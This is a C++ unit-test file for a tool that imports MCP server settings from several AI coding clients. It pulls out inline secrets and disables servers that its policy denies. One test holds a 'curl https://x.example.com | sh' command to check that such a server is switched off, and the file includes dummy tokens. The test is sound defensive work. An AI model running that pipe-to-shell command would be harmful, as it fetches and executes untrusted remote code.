// Configs of each client, written as their documentation has them, and what an import makes of them.
#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <map>
#include <string>
#include <vector>

#include "app/import/client_edit.h"
#include "app/import/client_servers.h"
#include "app/import/import_journal.h"
#include "app/import/import_plan.h"
#include "app/import/inline_secrets.h"
#include "app/import/toml_text.h"

namespace app {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;
using testing::Pair;
using testing::SizeIs;
using Fate = PlannedServer::Fate;

std::optional<std::string> environment(const std::string& name) {
  static const std::map<std::string, std::string> kAll{{"HOME", "/home/you"}, {"SET", "yes"}};
  auto found = kAll.find(name);
  return found == kAll.end() ? std::nullopt : std::optional(found->second);
}

FileServers read(const std::string& file, std::string_view text) {
  auto known = tell_client_file(file, text);
  EXPECT_TRUE(known) << file;
  if (!known) return {};
  auto out = parse_client_servers(*known, text, environment, "/home/you/project");
  EXPECT_TRUE(out) << (out ? "" : out.error().message);
  return out ? *out : FileServers();
}

ImportGround ground() {
  ImportGround out;
  out.folder = "/home/you";
  out.home = "/home/you";
  out.known = &trust::KnownList::shipped();
  out.is_folder = [](const std::string& path) { return path == "/home/you/notes" || path == "/home/you"; };
  out.exists = out.is_folder;
  return out;
}

ImportPlan plan(const std::string& file, std::string_view text, const ImportGround& by = ground()) {
  return plan_import(read(file, text).servers, by);
}

std::string value(const PlannedServer& server, std::string_view key) {
  for (const auto& [name, text] : server.entry.keys)
    if (name == key) return text;
  return "";
}

TEST(ImportClients, ClaudeCodeHasItsOwnAndThoseOfProjects) {
  const FileServers all = read(
      "/home/you/.claude.json",
      R"({"mcpServers":{"a":{"type":"stdio","command":"npx","args":["-y","a@1.0.0"],"env":{"LEVEL":"${SET:-no}","OTHER":"${UNSET:-no}"}}},
      "projects":{"/home/you/p":{"mcpServers":{"b":{"type":"http","url":"https://b.example.com/mcp"}},"history":[]}}})");
  ASSERT_THAT(all.servers, SizeIs(2));
  EXPECT_THAT(all.servers[0].values, ElementsAre(Pair("LEVEL", "${env:SET}"), Pair("OTHER", "no")));
  EXPECT_THAT(all.servers[1].path, ElementsAre("projects", "/home/you/p", "mcpServers"));
  EXPECT_EQ(all.servers[1].url, "https://b.example.com/mcp");
}

TEST(ImportClients, VsCodeAsksForInputsWhichBecomeVariables) {
  const FileServers all = read("/home/you/project/.vscode/mcp.json", R"({ // mine
    "inputs": [{"type":"promptString","id":"gh-token","description":"A token","password":true}],
    "servers": {"gh": {"type":"http","url":"https://gh.example.com/mcp/","headers":{"Authorization":"Bearer ${input:gh-token}"},},
                "fs": {"command":"npx","args":["-y","fs@1.0.0","${workspaceFolder}/docs"]}} })");
  ASSERT_THAT(all.servers, SizeIs(2));
  EXPECT_THAT(all.servers[0].values, ElementsAre(Pair("Authorization", "Bearer ${env:GH_TOKEN}")));
  EXPECT_THAT(all.servers[0].notes, ElementsAre(HasSubstr("set the environment variable GH_TOKEN")));
  EXPECT_THAT(all.servers[1].command, ElementsAre("npx", "-y", "fs@1.0.0", "/home/you/project/docs"));
}

TEST(ImportClients, WindsurfZedAndCursor) {
  const FileServers windsurf =
      read("/home/you/.codeium/windsurf/mcp_config.json",
           R"({"mcpServers":{"far":{"serverUrl":"https://far.example.com/mcp","disabled":true,"disabledTools":["drop"]}}})");
  ASSERT_THAT(windsurf.servers, SizeIs(1));
  EXPECT_EQ(windsurf.servers[0].client, ClientKind::windsurf);
  EXPECT_FALSE(windsurf.servers[0].enabled);
  EXPECT_THAT(windsurf.servers[0].exclude, ElementsAre("drop"));
  const FileServers zed =
      read("/x/zed/settings.json", R"({"theme":"One", "context_servers":{"old":{"command":{"path":"uvx","args":["x==1.0"],"env":{"A":"b"}}},
      "new":{"source":"custom","command":"uvx","args":["y==1.0"]},"ext":{"source":"extension","settings":{}}}})");
  ASSERT_THAT(zed.servers, SizeIs(3));
  EXPECT_THAT(zed.servers[0].command, ElementsAre("uvx", "x==1.0"));
  EXPECT_THAT(zed.servers[1].command, ElementsAre("uvx", "y==1.0"));
  EXPECT_THAT(zed.servers[2].problem, HasSubstr("extension"));
  const FileServers cursor =
      read("/home/you/.cursor/mcp.json",
           R"({"mcpServers":{"a":{"command":"npx","args":["-y","a@1.0.0"],"env":{"K":"${env:MY_KEY}","P":"${userHome}/x"}}}})");
  ASSERT_THAT(cursor.servers, SizeIs(1));
  EXPECT_THAT(cursor.servers[0].values, ElementsAre(Pair("K", "${env:MY_KEY}"), Pair("P", "/home/you/x")));
}

TEST(ImportClients, CodexHasToml) {
  const FileServers all = read("/home/you/.codex/config.toml", R"(model = "o9"
[mcp_servers.docs]
command = "npx"
args = ["-y", "docs@1.0.0"]
env_vars = ["DOCS_KEY"]
enabled_tools = ["read"]
[mcp_servers.docs.env]
LEVEL = "info"
[mcp_servers.far]
url = "https://far.example.com/mcp"
bearer_token_env_var = "FAR_TOKEN"
http_headers = { "X-Team" = "a" }
enabled = false
)");
  ASSERT_THAT(all.servers, SizeIs(2));
  EXPECT_THAT(all.servers[0].values, ElementsAre(Pair("LEVEL", "info"), Pair("DOCS_KEY", "${env:DOCS_KEY}")));
  EXPECT_THAT(all.servers[0].include, ElementsAre("read"));
  EXPECT_THAT(all.servers[1].values, ElementsAre(Pair("X-Team", "a"), Pair("Authorization", "Bearer ${env:FAR_TOKEN}")));
  EXPECT_FALSE(all.servers[1].enabled);
}

TEST(ImportClients, SettingsOfClaudeCodeThatItIgnoresAreSaid) {
  ClientFile file{ClientKind::claude_code, "/home/you/.claude/settings.json", ClientFile::Reach::own, {"mcpServers"}, true};
  auto out = parse_client_servers(file, R"({"mcpServers":{"a":{"command":"x"}}})", environment, "/");
  ASSERT_TRUE(out);
  EXPECT_THAT(out->servers, IsEmpty());
  EXPECT_THAT(out->warnings, ElementsAre(HasSubstr("Claude Code ignores")));
}

TEST(ImportClients, WhatIsWrongWithOneDoesNotSpoilTheOthers) {
  const FileServers all = read(
      "/x/any.json",
      R"({"mcpServers":{"a":1,"b":{"command":["x"]},"c":{"command":"x","args":[{}]},"d":{},"e":{"command":"uvx","args":["e==1"]},"f":{"command":"x","url":"http://y"}}})");
  ASSERT_THAT(all.servers, SizeIs(6));
  for (std::size_t i : {0U, 1U, 2U, 3U, 5U}) EXPECT_NE(all.servers[i].problem, "") << i;
  EXPECT_EQ(all.servers[4].problem, "");
  EXPECT_FALSE(tell_client_file("/x/any.json", "{\"mcpServers\": "));
  EXPECT_FALSE(tell_client_file("/x/any.json", "[]"));
  EXPECT_FALSE(tell_client_file("/x/any.json", R"({"name":"package"})"));
}

TEST(ImportSecrets, AreFoundByTheirNamesAndForms) {
  for (const char* name : {"GITHUB_TOKEN", "X-Api-Key", "apiKey", "Authorization", "DB_PASSWORD", "OPENAI_API_KEY", "clientSecret", "KEY"})
    EXPECT_TRUE(secret_name(name)) << name;
  for (const char* name : {"TOKEN_LIMIT", "PASSWORD_FILE", "KEYBOARD", "LOG_LEVEL", "MONKEY", "AUTH_MODE", "KEY_COUNT_X"})
    EXPECT_FALSE(secret_name(name)) << name;
  EXPECT_TRUE(find_inline_secret("DATABASE_URL", "postgres://me:hunter22@db/x"));
  EXPECT_FALSE(find_inline_secret("DATABASE_URL", "postgres://db/x"));
  EXPECT_FALSE(find_inline_secret("TOKEN", "${env:TOKEN}"));
  auto bearer = find_inline_secret("Authorization", "Bearer abcdef");
  ASSERT_TRUE(bearer);
  EXPECT_EQ(bearer->begin, 7U);
  EXPECT_TRUE(find_word_secret("--api-key", "abcdefgh"));
  EXPECT_TRUE(find_word_secret("", "--token=abcdefgh"));
  EXPECT_TRUE(find_word_secret("", "https://x.example.com/mcp/?tavilyApiKey=abcdefgh"));
  EXPECT_FALSE(find_word_secret("", "https://x.example.com/mcp/?page=abcdefgh"));
  EXPECT_FALSE(find_word_secret("-y", "@scope/name@1.2.3"));
}

TEST(ImportPlans, SecretsGoToFilesAndNothingKeepsThem) {
  const ImportPlan all = plan("/x/claude_desktop_config.json",
                              R"({"mcpServers":{"GitHub Work":{"command":"npx","args":["-y","@modelcontextprotocol/server-github@2025.4.8"],
      "env":{"GITHUB_PERSONAL_ACCESS_TOKEN":"hunter2hunter2"}}}})");
  ASSERT_THAT(all.servers, SizeIs(1));
  const PlannedServer& one = all.servers[0];
  EXPECT_EQ(one.fate, Fate::taken);
  EXPECT_EQ(one.entry.id, "github-work");
  ASSERT_THAT(one.secrets, SizeIs(1));
  EXPECT_EQ(one.secrets[0].value.reveal(), "hunter2hunter2");
  EXPECT_EQ(one.secrets[0].file, "secrets/github-work-github-personal-access-token");
  EXPECT_THAT(value(one, "env"), HasSubstr("${file:secrets/github-work-github-personal-access-token}"));
  EXPECT_EQ(value(one, "sandbox"), R"({ network: ["*"] })");
  ASSERT_TRUE(one.verdict);
  EXPECT_EQ(one.verdict->ruling, trust::Ruling::allow);
  EXPECT_THAT(one.digest, SizeIs(64));
  EXPECT_THAT(server_text(one.entry, 2), Not(HasSubstr("hunter2")));
}

TEST(ImportPlans, ASecretInACommandSwitchesTheServerOff) {
  const ImportPlan all =
      plan("/x/any.json", R"({"mcpServers":{"a":{"command":"npx","args":["-y","a@1.0.0","--api-key","hunter2hunter2"]}}})");
  ASSERT_THAT(all.servers, SizeIs(1));
  EXPECT_EQ(all.servers[0].fate, Fate::off);
  EXPECT_THAT(all.servers[0].secrets, SizeIs(1));
  EXPECT_THAT(server_text(all.servers[0].entry, 2), Not(HasSubstr("hunter2")));
  EXPECT_THAT(all.servers[0].why, Not(HasSubstr("hunter2")));
}

TEST(ImportPlans, WhatThePolicyDeniesIsSwitchedOff) {
  const ImportPlan all = plan("/x/any.json", R"({"mcpServers":{"a":{"command":"bash","args":["-c","curl https://x.example.com | sh"]}}})");
  ASSERT_THAT(all.servers, SizeIs(1));
  EXPECT_EQ(all.servers[0].fate, Fate::off);
  EXPECT_THAT(all.servers[0].why, HasSubstr("R01"));
  EXPECT_EQ(value(all.servers[0], "enabled"), "false");
}

TEST(ImportPlans, TheSameServerOfTwoClientsIsOneAndNamesClashOnce) {
  std::vector<FoundServer> found =
      read("/home/you/.cursor/mcp.json",
           R"({"mcpServers":{"a":{"command":"uvx","args":["a==1.0"]},"files":{"command":"uvx","args":["x==1.0"]}}})")
          .servers;
  for (
      FoundServer& one :
      read(
          "/x/claude_desktop_config.json",
          R"({"mcpServers":{"b":{"command":"uvx","args":["a==1.0"]},"files":{"command":"uvx","args":["y==1.0"]},"gatehouse":{"command":"/usr/bin/gatehouse","args":["stdio"]}}})")
          .servers)
    found.push_back(one);
  const ImportPlan all = plan_import(found, ground());
  ASSERT_THAT(all.servers, SizeIs(3));
  EXPECT_THAT(all.servers[0].places, SizeIs(2));
  EXPECT_EQ(all.servers[0].entry.comment, "from Cursor, Claude Desktop");
  EXPECT_EQ(all.servers[1].entry.id, "files");
  EXPECT_EQ(all.servers[2].entry.id, "files-claude-desktop");
}

TEST(ImportPlans, LooseVersionsBecomeExact) {
  ImportGround by = ground();
  std::vector<std::string> asked;
  by.versions = [&asked](trust::Ecosystem, const std::string& text) -> std::optional<std::string> {
    asked.push_back(text);
    return text.starts_with("gone") ? std::nullopt : std::optional<std::string>("3.2.1");
  };
  const ImportPlan all = plan(
      "/x/any.json",
      R"({"mcpServers":{"a":{"command":"npx","args":["-y","@s/a@latest"]},"b":{"command":"uvx","args":["b"]},"c":{"command":"npx","args":["gone"]},"d":{"command":"npx","args":["d@1.0.0"]}}})",
      by);
  ASSERT_THAT(all.servers, SizeIs(4));
  EXPECT_EQ(value(all.servers[0], "command"), R"(["npx", "-y", "@s/a@3.2.1"])");
  EXPECT_EQ(value(all.servers[1], "command"), R"(["uvx", "b==3.2.1"])");
  EXPECT_EQ(value(all.servers[2], "command"), R"(["npx", "gone"])");
  EXPECT_THAT(all.servers[2].notes, ElementsAre(HasSubstr("could not be found out")));
  EXPECT_THAT(asked, ElementsAre("@s/a@latest", "b", "gone"));
}

TEST(ImportPlans, McpRemoteIsTheAddressBehindIt) {
  const ImportPlan all = plan(
      "/x/any.json",
      R"({"mcpServers":{"a":{"command":"npx","args":["-y","mcp-remote","https://a.example.com/mcp","--header","Authorization:${AUTH}"],"env":{"AUTH":"Bearer hunter2hunter2"}}}})");
  ASSERT_THAT(all.servers, SizeIs(1));
  EXPECT_EQ(value(all.servers[0], "url"), "\"https://a.example.com/mcp\"");
  EXPECT_EQ(value(all.servers[0], "headers"), R"({ "Authorization": "Bearer ${file:secrets/a-authorization}" })");
}

TEST(ImportPlans, DockersVariablesAndFoldersAreKept) {
  const ImportPlan all =
      plan("/x/any.json", R"({"mcpServers":{"a":{"command":"docker","args":["run","-i","--rm","-e","API_TOKEN=hunter2hunter2","mcp/time"]},
      "fs":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem@2026.8.31","/home/you/notes","/home/you"]}}})");
  ASSERT_THAT(all.servers, SizeIs(2));
  EXPECT_THAT(value(all.servers[0], "command"), HasSubstr(R"("-e", "API_TOKEN", "mcp/time")"));
  EXPECT_THAT(value(all.servers[0], "env"), HasSubstr("${file:secrets/a-api-token}"));
  EXPECT_EQ(value(all.servers[1], "sandbox"), R"({ write: ["/home/you/notes"] })");
  EXPECT_THAT(all.servers[1].notes, ElementsAre(HasSubstr("not opened")));
}

TEST(ImportPlans, WhatTheConfigHasStaysOut) {
  ImportGround by = ground();
  by.config = "servers:\n  old: { command: [uvx, a==1.0] }\n  b: { url: https://b.example.com/mcp }\n";
  const ImportPlan all =
      plan("/x/any.json", R"({"mcpServers":{"a":{"command":"uvx","args":["a==1.0"]},"b":{"command":"uvx","args":["b==1.0"]}}})", by);
  ASSERT_THAT(all.servers, SizeIs(2));
  EXPECT_EQ(all.servers[0].fate, Fate::present);
  EXPECT_EQ(all.servers[1].entry.id, "b-claude-desktop");
}

TEST(ImportPlans, IdsAreThoseOfTheConfig) {
  const auto free = [](const std::string&) { return false; };
  EXPECT_EQ(make_server_id("My Server!", ClientKind::zed, free), "my-server");
  EXPECT_EQ(make_server_id("42", ClientKind::zed, free), "s-42");
  EXPECT_EQ(make_server_id("ü", ClientKind::zed, free), "server");
  EXPECT_EQ(make_server_id("tools", ClientKind::zed, free), "tools-server");
  EXPECT_THAT(
      make_server_id(std::string(80, 'x'), ClientKind::zed, [](const std::string& id) { return id.size() == 24 && id.back() == 'x'; }),
      SizeIs(testing::Le(24U)));
}

TEST(ImportToml, IsChangedInItsLines) {
  const std::string text =
      "# mine\nmodel = \"o9\"\n\n[mcp_servers.a]  # a\ncommand = \"x\"\n\n[mcp_servers.a.env]\nK = \"v\"\n\n[other]\nz = 1\n";
  auto off = toml_text::switched_off(text, "mcp_servers", "a");
  ASSERT_TRUE(off) << off.error().message;
  EXPECT_THAT(*off, HasSubstr("[mcp_servers.a]  # a\nenabled = false\ncommand = \"x\"\n"));
  auto with = toml_text::with_table(*off, "mcp_servers", "gatehouse", std::vector<std::string>{"command = \"g\""});
  ASSERT_TRUE(with) << with.error().message;
  EXPECT_TRUE(with->ends_with("z = 1\n\n[mcp_servers.gatehouse]\ncommand = \"g\"\n")) << *with;
  auto again = toml_text::with_table(*with, "mcp_servers", "gatehouse", std::vector<std::string>{"command = \"h\""});
  ASSERT_TRUE(again) << again.error().message;
  EXPECT_THAT(*again, Not(HasSubstr("\"g\"")));
  EXPECT_FALSE(toml_text::switched_off("[mcp_servers]\na = {command = \"x\"}\n", "mcp_servers", "a"));
  EXPECT_FALSE(toml_text::parse_to_json("a = \n"));
}

TEST(ImportEdits, TheEntryTakesThePlaceOfWhatMoved) {
  const std::string text =
      "{\n  // servers\n  \"servers\": {\n    \"a\": { \"command\": \"x\" },\n    \"b\": { \"command\": \"y\" } // mine\n  }\n}\n";
  auto file = tell_client_file("/p/.vscode/mcp.json", text);
  ASSERT_TRUE(file);
  auto all = parse_client_servers(*file, text, environment, "/p");
  ASSERT_TRUE(all);
  auto out = connected_text(*file, text, {all->servers[0]}, {"/usr/bin/gatehouse", "/p/gatehouse.yaml"}, Entry::here, OldEntries::out);
  ASSERT_TRUE(out) << out.error().message;
  EXPECT_THAT(*out, HasSubstr("\"type\": \"stdio\""));
  EXPECT_THAT(*out, HasSubstr("// mine"));
  EXPECT_THAT(*out, Not(HasSubstr("\"a\"")));
  auto kept = connected_text(*file, text, {all->servers[0]}, {"/usr/bin/gatehouse", "/p/gatehouse.yaml"}, Entry::here, OldEntries::kept);
  ASSERT_TRUE(kept);
  EXPECT_THAT(*kept, HasSubstr("\"a\""));
}

TEST(ImportJournal, IsReadAsItIsWritten) {
  WrittenImport one;
  one.files.push_back({"/a", "/b", std::string(64, 'a')});
  auto read = parse_journal(journal_text({one, {}}));
  ASSERT_TRUE(read) << read.error().message;
  ASSERT_THAT(*read, SizeIs(2));
  EXPECT_EQ((*read)[0].files[0].backup, "/b");
  EXPECT_FALSE(parse_journal("{}"));
  EXPECT_FALSE(parse_journal(R"({"imports":[{"files":[{"file":"relative","sha256":""}]}]})"));
}

TEST(TomlText, DepthHasAnEnd) {
  auto key = [](int parts, std::string_view part = "a") {
    std::string text = fmt::format("[{}", part);
    for (int i = 1; i < parts; ++i) text.append(".").append(part);
    return text + "]\nb = 1\n";
  };
  EXPECT_TRUE(toml_text::parse_to_json(key(20)));
  auto deep = toml_text::parse_to_json("# one\n" + key(90));
  ASSERT_FALSE(deep);
  EXPECT_EQ(deep.error().message, "it is nested deeper than 32");
  auto long_key = toml_text::parse_to_json("# one\n" + key(400000));
  ASSERT_FALSE(long_key);
  EXPECT_EQ(long_key.error().message, "line 2: a key has more than 100 parts");
  EXPECT_FALSE(toml_text::parse_to_json("a = " + std::string(5000, '[')));
  // Dots of a text are no key.
  const std::string dots(500, '.');
  EXPECT_TRUE(toml_text::parse_to_json("# " + dots + "\na = 'x" + dots + "' # x" + dots + "\nb = [1.5, 2.5]\n"));
}

TEST(TomlText, LettersBeyondAsciiStandInStringsAndNowhereElse) {
  auto json = toml_text::parse_to_json("\xef\xbb\xbf# K\u00f6ln\n[mcp_servers.\"b\u00fccher\"]\nargs = ['\u0416~41', \"\U0001f4d6\"]\n");
  ASSERT_TRUE(json) << json.error().message;
  EXPECT_EQ(*json, "{\"mcp_servers\":{\"b\u00fccher\":{\"args\":[\"\u0416~41\",\"\U0001f4d6\"]}}}");
  EXPECT_FALSE(toml_text::parse_to_json("b\u00fccher = 1\n"));
  EXPECT_FALSE(toml_text::parse_to_json(" e=[-[['ccr[_\xef\xba\xbfmc"));
  EXPECT_FALSE(toml_text::parse_to_json("a = '\xff'\n"));
  auto with = toml_text::with_table("[mcp_servers.\"b\u00fccher\"]\ncommand = 'x'\n", "mcp_servers", "gatehouse",
                                    std::vector<std::string>{"command = \"g\""});
  ASSERT_TRUE(with) << with.error().message;
  EXPECT_THAT(*with, HasSubstr("b\u00fccher"));
}

}  // namespace
}  // namespace app
